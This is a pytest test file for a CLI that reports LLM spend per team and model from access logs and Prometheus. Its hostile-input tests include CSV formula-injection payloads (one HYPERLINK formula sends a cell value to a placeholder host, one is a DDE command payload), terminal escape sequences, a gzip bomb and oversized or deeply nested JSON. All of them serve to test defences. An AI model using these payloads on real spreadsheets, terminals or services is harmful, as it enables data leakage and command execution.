"""``extproc spend``: per-team/model spend from access-log files and from a real Prometheus."""

from __future__ import annotations

import gzip
import json
import shutil
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from extproc import cli
from extproc.devtools.dev import free_port, wait_port
from extproc.spend import counter_increase, duration, timestamp
from tests.support.http_server import QuietHandler, serve_http

T0 = 1_790_000_000.0  # 2026-09-21T...Z: crafted log lines sit after this


def iso(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def entry(
    t: float,
    team: str | None,
    model: str | None,
    prompt: int | None,
    completion: int | None,
    cost: float | None,
    *,
    user: str = "u1",
    provider: str = "openai",
    provider_model: str | None = None,
    operation: str = "chat",
) -> dict[str, Any]:
    """One line as envoy/envoy.yaml's json_format writes it (unset metadata -> null)."""
    line: dict[str, Any] = {
        "http_method": "POST",
        "path": "/v1/chat/completions",
        "user": user,
        "team": team,
        "request_id": "r",
        "response_code": 200,
        "system_time": iso(t),
        "target_duration": 12,
        "upstream_name": "llm",
        "total_tokens": None if prompt is None else prompt + (completion or 0),
        "prompt_tokens": prompt,
        "completion_tokens": completion,
        "cached_tokens": None,
        "reasoning_tokens": None,
        "streaming": False,
        "model": model,
        "provider_model": provider_model,
        "provider": provider,
        "operation": operation,
    }
    if cost is not None:
        line["cost_usd"] = cost
    return line


def write_log(path: Path, entries: list[dict[str, Any]], extra: str = "") -> Path:
    path.write_text("".join(json.dumps(e) + "\n" for e in entries) + extra)
    return path


def spend(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(["spend", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def rows_by(out: str, *names: str) -> dict[tuple[str, ...], dict[str, Any]]:
    return {tuple(r[n] for n in names): r for r in json.loads(out)["rows"]}


# ---- access logs ------------------------------------------------------------------------------
TRAFFIC = [
    entry(T0 + 10, "search", "gpt-4o-mini", 1_000, 200, 0.00027),
    entry(T0 + 20, "search", "gpt-4o-mini", 3_000, 100, 0.00051, user="u2"),
    entry(T0 + 30, "billing", "claude-sonnet-4-20250514", 2_000, 500, 0.0135, provider="anthropic"),
    entry(T0 + 40, "billing", None, 10, 5, None, provider="ollama", provider_model="llama3.2"),  # unpriced; model from the response
    entry(T0 + 50, None, "gpt-4o-mini", 100, 10, 0.000021),  # no team claim
]


def test_access_log_table_sorted_by_cost(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    noise = [
        entry(T0 + 15, "search", None, None, None, None, operation="unknown"),  # not an LLM path
        entry(T0 - 10, "search", "gpt-4o-mini", 9, 9, 9.0),  # before the window
        entry(T0 + 5000, "search", "gpt-4o-mini", 9, 9, 9.0),  # after it
    ]
    log = write_log(tmp_path / "access.log", TRAFFIC + noise, extra="[2026-11-30 envoy] not json\n\n")
    code, out, err = spend(capsys, "--access-log", str(log), "--by", "team", "--since", str(T0), "--until", str(T0 + 3600))
    assert code == 0
    assert err.strip() == "extproc spend: skipped 1 line(s) that are not JSON access-log entries"
    lines = out.splitlines()
    assert lines[0] == "LLM spend 2026-09-21T14:13:20Z .. 2026-09-21T15:13:20Z"
    assert lines[2].split() == ["TEAM", "CALLS", "TOKENS", "IN", "TOKENS", "OUT", "USD", "SHARE"]
    assert [ln.split()[0] for ln in lines[3:6]] == ["billing", "search", "(none)"]  # by cost
    assert lines[3].split() == ["billing", "2", "2,010", "505", "$0.0135", "94.4%"]  # 0.0135 / 0.014301
    assert lines[-1].split() == ["TOTAL", "5", "6,110", "815", "$0.0143", "100.0%"]


def test_access_log_json_csv_and_grouping(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = write_log(tmp_path / "a.log", TRAFFIC[:3])
    gz = tmp_path / "b.log.gz"  # a rotated, compressed file
    gz.write_bytes(gzip.compress("".join(json.dumps(e) + "\n" for e in TRAFFIC[3:]).encode()))
    window = ["--since", iso(T0), "--until", iso(T0 + 3600)]
    code, out, _ = spend(capsys, "--access-log", str(log), str(gz), "--by", "llm,model", "--format", "json", *window)
    assert code == 0
    rows = rows_by(out, "llm", "model")
    assert rows[("openai", "gpt-4o-mini")]["calls"] == 3
    assert rows[("openai", "gpt-4o-mini")]["cost_usd"] == pytest.approx(0.000801, abs=1e-12)
    assert rows[("ollama", "llama3.2")] == {
        "llm": "ollama",
        "model": "llama3.2",
        "calls": 1,
        "input_tokens": 10,
        "output_tokens": 5,
        "cost_usd": 0,
        "share": 0,
    }
    assert json.loads(out)["total"]["calls"] == 5
    code, out, _ = spend(capsys, "--access-log", str(log), str(gz), "--by", "team", "user", "--format", "csv", *window)
    assert out.splitlines()[0] == "team,user,calls,input_tokens,output_tokens,cost_usd,share"
    assert out.splitlines()[1].startswith("billing,u1,2,2010,505,0.0135,")


def test_default_window_is_the_last_7_days(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    now = time.time()
    log = write_log(tmp_path / "a.log", [entry(now - 6 * 86400, "a", "m", 1, 1, 1.0), entry(now - 8 * 86400, "a", "m", 1, 1, 1.0)])
    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "json")
    assert json.loads(out)["total"]["calls"] == 1
    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "json", "--range", "9d")
    assert json.loads(out)["total"]["calls"] == 2


def test_errors_are_one_line_and_exit_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = spend(capsys, "--access-log", str(tmp_path / "missing.log"))
    assert (code, out) == (1, "")
    assert err == f"extproc spend: cannot read {tmp_path / 'missing.log'}: No such file or directory\n"
    (tmp_path / "bad.gz").write_bytes(b"not gzip at all")
    code, _, err = spend(capsys, "--access-log", str(tmp_path / "bad.gz"))
    assert code == 1 and err.startswith(f"extproc spend: cannot read {tmp_path / 'bad.gz'}:") and err.count("\n") == 1
    port = free_port()  # nothing listens there
    code, out, err = spend(capsys, "--prometheus", f"http://127.0.0.1:{port}")
    assert (code, out) == (1, "")
    assert err.startswith(f"extproc spend: cannot reach Prometheus at http://127.0.0.1:{port}:") and err.count("\n") == 1
    code, _, err = spend(capsys, "--access-log", str(tmp_path / "x"), "--since", "2026-11-30", "--until", "2026-11-01")
    assert code == 1 and "window is empty" in err


def test_time_arguments() -> None:
    assert duration("7d") == 7 * 86400 and duration("90m") == 5400 and duration("1.5h") == 5400
    assert timestamp("2026-11-23") == datetime(2026, 11, 23, tzinfo=UTC).timestamp()
    assert timestamp("2026-11-23T10:00:00+01:00") == datetime(2026, 11, 23, 9, tzinfo=UTC).timestamp()
    assert timestamp("1790000000") == 1790000000.0


def test_counter_increase() -> None:
    since = 100.0
    assert counter_increase([(100, 5), (101, 7), (102, 9)], since) == 4  # existed at the start: from 5
    assert counter_increase([(101, 5), (102, 7)], since) == 7  # born inside the window: from 0
    assert counter_increase([(100, 5), (101, 8), (102, 2), (103, 4)], since) == 3 + 2 + 2  # restarted at 102
    assert counter_increase([(100, 5), (101, 5), (102, 6)], since, restarts=[101]) == 5 + 1  # another counter dropped at 101
    assert counter_increase([(100, 5), (105, 9)], since, restarts=[103]) == 9  # absent across the restart
    assert counter_increase([], since) == 0


# ---- Prometheus -------------------------------------------------------------------------------
class Exposition:
    """A /metrics endpoint serving whatever text the test sets (the sidecar's metric shapes)."""

    def __init__(self) -> None:
        self.text = ""
        outer = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:  # noqa: N802
                self.respond(200, outer.text.encode(), "text/plain; version=0.0.4")

        self.port, self._stop = serve_http(Handler)

    def set(self, calls: dict[tuple[str, str, str, str], tuple[int, int, int, float]]) -> None:
        """(team, user, llm, model) -> cumulative (calls, prompt, completion, usd)."""
        out = []
        for name in ("ai_requests", "ai_prompt_tokens", "ai_completion_tokens", "ai_cost_usd"):
            out.append(f"# TYPE {name}_total counter")
            for (team, user, llm, model), (n, p, c, usd) in calls.items():
                value = {"ai_requests": n, "ai_prompt_tokens": p, "ai_completion_tokens": c, "ai_cost_usd": usd}[name]
                extra = ',operation="chat",status_code="200",outcome="ok",error_type=""' if name == "ai_requests" else ""
                out.append(f'{name}_total{{llm="{llm}",model="{model}"{extra},team="{team}",user="{user}"}} {value!r}')
        self.text = "\n".join(out) + "\n"

    def close(self) -> None:
        self._stop()


class Prometheus:
    def __init__(self, workdir: Path, target: str) -> None:
        binary = shutil.which("prometheus")
        if binary is None:
            pytest.fail("no prometheus binary: `make tools` (Debian package prometheus)")
        self.port = free_port()
        cfg = {"global": {"scrape_interval": "1s"}, "scrape_configs": [{"job_name": "extproc", "static_configs": [{"targets": [target]}]}]}
        (workdir / "prometheus.yml").write_text(yaml.safe_dump(cfg))
        self.log = (workdir / "prometheus.log").open("wb")
        self.proc = subprocess.Popen(
            [
                binary,
                f"--config.file={workdir / 'prometheus.yml'}",
                f"--storage.tsdb.path={workdir / 'tsdb'}",
                f"--web.listen-address=127.0.0.1:{self.port}",
            ],
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        wait_port(self.port, proc=self.proc, timeout=30)
        self.url = f"http://127.0.0.1:{self.port}"

    def value(self, expr: str) -> float | None:
        url = f"{self.url}/api/v1/query?" + urllib.parse.urlencode({"query": expr})
        try:
            with urllib.request.urlopen(url, timeout=10) as r:
                result = json.load(r)["data"]["result"]
        except OSError:
            return None  # 503 until the TSDB is open
        return float(result[0]["value"][1]) if result else None

    def wait_value(self, expr: str, want: float, timeout: float = 30) -> None:
        deadline = time.monotonic() + timeout
        while self.value(expr) != want:
            if time.monotonic() > deadline:
                raise AssertionError(f"{expr} never became {want}")
            time.sleep(0.2)

    def close(self) -> None:
        self.proc.terminate()
        self.proc.wait(20)
        self.log.close()


@pytest.mark.integration
def test_prometheus_and_access_log_agree_per_team(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The same traffic, as the sidecar's counters scraped by a real Prometheus and as access-log
    lines, gives the same per-team (and per-model) totals, through a sidecar restart."""
    a = ("search", "u1", "openai", "gpt-4o-mini")
    a2 = ("search", "u2", "openai", "gpt-4o-mini")
    b = ("billing", "u3", "anthropic", "claude-sonnet-4-20250514")
    phases = [  # cumulative counters as each scrape sees them; phase 2 is a restarted sidecar
        {a: (2, 1_000, 200, 0.125), b: (1, 2_000, 500, 1.5)},
        {a: (1, 300, 50, 0.25), a2: (1, 40, 4, 0.0625), b: (1, 100, 10, 0.25)},
        {a: (3, 900, 150, 0.75), a2: (1, 40, 4, 0.0625), b: (2, 4_000, 900, 3.25)},
    ]
    # The calls those counters count, as access-log lines (increments per phase, restart included).
    lines: list[dict[str, Any]] = []
    since = time.time() - 1
    exposition = Exposition()
    prom = Prometheus(tmp_path, f"127.0.0.1:{exposition.port}")
    try:
        prev: dict[tuple[str, str, str, str], tuple[int, int, int, float]] = {}
        for i, phase in enumerate(phases):
            exposition.set(phase)
            for key, now in phase.items():
                was = prev.get(key, (0, 0, 0, 0.0)) if i != 1 else (0, 0, 0, 0.0)
                dn, dp, dc, dusd = (now[0] - was[0], now[1] - was[1], now[2] - was[2], now[3] - was[3])
                for k in range(dn):  # spread the increments over the calls
                    last = k == dn - 1
                    lines.append(
                        entry(
                            time.time(),
                            key[0],
                            key[3],
                            dp // dn + (dp % dn if last else 0),
                            dc // dn + (dc % dn if last else 0),
                            dusd / dn,
                            user=key[1],
                            provider=key[2],
                        )
                    )
            prev = phase
            total = sum(v[3] for v in phase.values())
            prom.wait_value("sum(ai_cost_usd_total)", total)
            time.sleep(1.2)  # one more scrape of this phase
        until = time.time()
        log = write_log(tmp_path / "access.log", lines)
        window = ["--since", f"{since:.3f}", "--until", f"{until:.3f}", "--format", "json"]
        for by in (["team"], ["team", "model"], ["llm"]):
            code, from_prom, err = spend(capsys, "--prometheus", prom.url, "--by", *by, *window)
            assert code == 0, err
            code, from_log, err = spend(capsys, "--access-log", str(log), "--by", *by, *window)
            assert code == 0, err
            p, lg = rows_by(from_prom, *by), rows_by(from_log, *by)
            assert p.keys() == lg.keys()
            for key in p:
                for col in ("calls", "input_tokens", "output_tokens"):
                    assert p[key][col] == lg[key][col], (by, key, col)
                assert p[key]["cost_usd"] == pytest.approx(lg[key]["cost_usd"], abs=1e-9), (by, key)
        llm = rows_by(from_prom, "llm")
        assert llm[("anthropic",)]["cost_usd"] == pytest.approx(1.5 + 3.25, abs=1e-9)  # 1.5, restart, 3.25
        assert llm[("openai",)]["calls"] == 2 + 1 + 1 + 2
        # The table says the same, sorted by cost.
        code, table, _ = spend(capsys, "--prometheus", prom.url, "--by", "team", *window[:4])
        assert [ln.split()[0] for ln in table.splitlines()[3:5]] == ["billing", "search"]
    finally:
        prom.close()
        exposition.close()


# ---- hostile inputs ---------------------------------------------------------------------------
def test_csv_neutralises_formulas_and_no_control_character_reaches_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Client-chosen model names are text in a spreadsheet and inert on a terminal."""
    hostile = [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tlead-tab",
        "\x1b]52;c;cHduZWQ=\x07\x1b[2Jclear",
        "bidi\u202eevil",
        "c1\x9bcsi",
    ]
    log = write_log(tmp_path / "a.log", [entry(T0 + 10 + i, "t", m, 1, 1, 0.001 * (i + 1)) for i, m in enumerate(hostile)])
    window = ["--since", str(T0), "--until", str(T0 + 3600)]
    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "csv", *window)
    assert code == 0
    import csv as csvmod
    import io as iomod

    cells = [row[0] for row in csvmod.reader(iomod.StringIO(out))][1:]
    assert sorted(cells) == sorted(
        [
            "'" + hostile[0],
            "'" + hostile[1],
            "'-2+3",
            "'@SUM(A1)",
            "'\\x09lead-tab",
            "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2Jclear",
            "bidi\\u202eevil",
            "c1\\x9bcsi",
        ]
    )
    for fmt in ("table", "csv"):
        code, out, _ = spend(capsys, "--access-log", str(log), "--format", fmt, *window)
        assert code == 0
        assert not any(ord(c) < 0x20 and c != "\n" or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in out), fmt
        assert "\\x1b]52;c;cHduZWQ=\\x07" in out
    code, out, _ = spend(capsys, "--access-log", str(log), "--format", "json", *window)
    assert {r["model"] for r in json.loads(out)["rows"]} == set(hostile)  # JSON keeps the exact values (escaped)


def test_hostile_access_log_lines_are_skipped_and_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A 100k-deep JSON line, numbers a counter cannot hold and an over-long line are not entries:
    skipped and counted in one stderr line; the real entries still add up."""
    big = dict(entry(T0 + 12, "t", "m", 1, 1, 1e308))
    inf_tokens = dict(entry(T0 + 13, "t", "m", 10**400, 1, 0.5))  # an integer JSON accepts, no float holds
    neg = dict(entry(T0 + 14, "t", "m", -5, 1, 0.5))
    extra = (
        "[" * 100_000
        + "\n"
        + json.dumps(big)
        + "\n"
        + json.dumps(big)
        + "\n"
        + json.dumps(neg)
        + "\n"
        + json.dumps(inf_tokens, default=str).replace('"prompt_tokens": ' + str(10**400), '"prompt_tokens": 1' + "0" * 400)
        + "\n"
        + '{"model": "'
        + "x" * (2 << 20)
        + '"}\n'
    )
    log = write_log(tmp_path / "a.log", TRAFFIC, extra=extra)
    code, out, err = spend(capsys, "--access-log", str(log), "--format", "json", "--since", str(T0), "--until", str(T0 + 3600))
    assert code == 0, err
    assert err == "extproc spend: skipped 6 line(s) that are not JSON access-log entries\n"
    total = json.loads(out)["total"]
    assert (total["calls"], total["input_tokens"]) == (5, 6_110)
    assert total["cost_usd"] == pytest.approx(0.014301, abs=1e-12)


def _spend_child(*argv: str, timeout: float = 60) -> tuple[int, str, str, int]:
    """``extproc spend`` in its own process: (exit code, stdout, stderr, peak RSS in MB).

    The peak is the process's own VmHWM (reset by exec), not ``ru_maxrss``: Linux carries that
    across fork and exec, so a child of a large pytest process would report the parent's size."""
    code = (
        "import sys\nfrom extproc import cli\nrc = cli.main(['spend', *sys.argv[1:]])\nsys.stdout.flush()\n"
        "hwm = next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:'))\n"
        "print('MAXRSS', hwm // 1024, file=sys.stderr)\nsys.exit(rc)\n"
    )
    p = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=timeout)
    err_lines = p.stderr.splitlines()
    assert err_lines and err_lines[-1].startswith("MAXRSS "), p.stderr[-2000:]
    return p.returncode, p.stdout, "\n".join(err_lines[:-1]) + "\n", int(err_lines[-1].split()[1])


def test_a_gzip_bomb_is_refused_in_bounded_memory(tmp_path: Path) -> None:
    """1 MB of gzip that inflates to 1 GiB (one line of zeros) ends in one error line, holding
    neither the line nor the decompressed stream."""
    bomb = tmp_path / "access.log.gz"
    zero = bytes(1 << 20)
    with gzip.open(bomb, "wb", compresslevel=9) as f:
        for _ in range(1024):
            f.write(zero)
    assert bomb.stat().st_size < 2 << 20
    code, out, err, rss = _spend_child("--access-log", str(bomb))
    assert (code, out) == (1, "")
    assert err == f"extproc spend: cannot read {bomb}: it decompresses to more than 200 times its size (not an access log)\n"
    assert rss < 200, rss


class Scripted:
    """A 'Prometheus' that answers every query with what the test sets: bytes, or a callable
    writing to the socket itself."""

    def __init__(self) -> None:
        self.answer: Any = b""
        outer = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:  # noqa: N802
                if callable(outer.answer):
                    outer.answer(self)
                else:
                    self.respond(200, outer.answer, "application/json")

        self.port, self._stop = serve_http(Handler)
        self.url = f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        self._stop()


def _matrix(value: Any) -> bytes:
    """One series holding ``value``, as a range query's ``values`` and an instant query's ``value``."""
    return json.dumps(
        {
            "status": "success",
            "data": {
                "resultType": "matrix",
                "result": [{"metric": {"__name__": "ai_cost_usd_total", "team": "a"}, "values": [[T0, value]], "value": [T0, value]}],
            },
        }
    ).encode()


@pytest.mark.parametrize(
    "answer",
    [
        b"null",
        b'"x"',
        b'{"status": "success", "data": null}',
        b'{"status": "success", "data": {"result": null}}',
        b"[" * 100_000,
        b'{"status": "success", "data": ' + b"[" * 100_000,
        _matrix("+Inf"),
        _matrix("NaN"),
        _matrix("1e308"),
        _matrix("-1"),
        _matrix(None),
        _matrix([1]),
        b'{"status": "error", "error": "bad\\u001b[2J"}',
    ],
    ids=[
        "null",
        "string",
        "data-null",
        "result-null",
        "deep",
        "deep-data",
        "inf",
        "nan",
        "1e308",
        "negative",
        "value-null",
        "value-list",
        "error-with-escape",
    ],
)
def test_a_hostile_prometheus_answer_is_one_error_line(answer: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    prom = Scripted()
    try:
        prom.answer = answer
        code, out, err = spend(capsys, "--prometheus", prom.url, "--by", "team", "--since", str(T0 - 60), "--until", str(T0 + 60))
    finally:
        prom.close()
    assert (code, out) == (1, "")
    assert err.startswith("extproc spend: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert not any(ord(c) < 0x20 and c != "\n" for c in err)


def test_a_dripping_prometheus_ends_at_the_deadline() -> None:
    """One byte per second keeps every socket read alive; the overall deadline still ends it."""
    stop = threading.Event()

    def drip(handler: QuietHandler) -> None:
        for b in b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n" + _matrix("1"):
            if stop.wait(1.0):
                return
            handler.wfile.write(bytes([b]))
            handler.wfile.flush()

    prom = Scripted()
    prom.answer = drip
    try:
        t = time.monotonic()
        code, out, err, _ = _spend_child("--prometheus", prom.url, "--timeout", "3", timeout=30)
        took = time.monotonic() - t
    finally:
        stop.set()
        prom.close()
    assert (code, out) == (1, "")
    assert err == f"extproc spend: Prometheus at {prom.url} did not answer within 3 s (--timeout)\n"
    assert took < 10, took


def test_a_huge_prometheus_answer_is_refused_in_bounded_memory() -> None:
    """A 400 MB answer (sent without a length) is refused at --max-answer-mb, never held whole."""
    series = json.dumps({"metric": {"team": "t"}, "values": [[T0 + i, "1"] for i in range(2000)]}).encode()

    def flood(handler: QuietHandler) -> None:
        handler.send_response(200)
        handler.send_header("content-type", "application/json")
        handler.end_headers()
        try:
            handler.wfile.write(b'{"status": "success", "data": {"resultType": "matrix", "result": [' + series)
            for _ in range(400_000_000 // len(series)):
                handler.wfile.write(b"," + series)
            handler.wfile.write(b"]}}")
        except OSError:
            pass  # the reader hung up

    prom = Scripted()
    prom.answer = flood
    try:
        code, out, err, rss = _spend_child("--prometheus", prom.url, timeout=120)
    finally:
        prom.close()
    assert (code, out) == (1, "")
    assert err == f"extproc spend: Prometheus at {prom.url} sent an answer larger than 64 MiB (--max-answer-mb; or a shorter window)\n"
    assert rss < 300, rss
